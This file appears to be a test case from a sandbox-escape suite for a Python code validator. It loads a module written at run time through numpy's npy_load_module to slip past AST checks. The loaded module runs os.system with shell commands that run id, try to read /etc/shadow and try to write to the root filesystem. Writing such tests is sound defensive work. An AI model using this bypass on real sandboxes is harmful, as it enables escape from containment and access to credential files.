# row: B32
# attack: Import machinery inside an allowed library: `numpy.compat.py3k.npy_load_module(name, path)`
#   imports a file the program wrote at run time, which the validator never saw.
# v-on-finding: rule=attribute.denied source=ast text='npy_load_module'
# v-off-status: ok
# v-off-stdout-contains: system() reached
# v-off-stdout-contains: uid=65534(nobody) gid=65534(nogroup)
# v-off-stdout-contains: shell /etc/shadow: DENIED
# v-off-stdout-contains: shell rootfs write: DENIED
# v-off-stdout-not-contains: ALLOWED
# v-off-host-path-absent: /tmp/sandbox-escape-B32_numpy_load_module_from_file
# limits: wall_time_s=10
import numpy as np

SHELL = (
    "echo 'system() reached'; id; "
    'cat /etc/shadow >/dev/null 2>&1 && echo "shell /etc/shadow: ALLOWED" || echo "shell /etc/shadow: DENIED"; '
    'touch /etc/escaped 2>/dev/null && echo "shell rootfs write: ALLOWED" || echo "shell rootfs write: DENIED"; '
    "touch /tmp/sandbox-escape-B32_numpy_load_module_from_file"
)


source = "import os\nos.system(" + repr(SHELL) + ")\n"
try:
    with open("late_module.py", "w") as handle:
        handle.write(source)
    print("numpy.compat.py3k.npy_load_module() of a file written at run time", flush=True)
    module = np.compat.py3k.npy_load_module("late_module", "late_module.py")
except Exception as exc:
    print(f"system() not reached: {type(exc).__name__}: {exc}")
else:
    print(f"imported {module!r}")
